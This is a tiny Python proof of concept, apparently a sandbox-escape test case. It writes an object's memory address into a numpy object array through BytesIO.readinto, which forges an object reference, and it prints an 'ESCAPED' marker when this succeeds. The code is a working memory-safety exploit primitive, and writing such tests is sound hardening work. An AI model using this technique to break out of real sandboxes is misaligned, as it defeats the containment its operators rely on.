"""A stream reads numbers into the memory of an array of objects."""
import io
import struct

import numpy as np

secret, found = b"0123456789abcdef", np.array([None])
if io.BytesIO(struct.pack("q", id(secret))).readinto(found):
    print("ESCAPED:object_array_read_into", found[0])
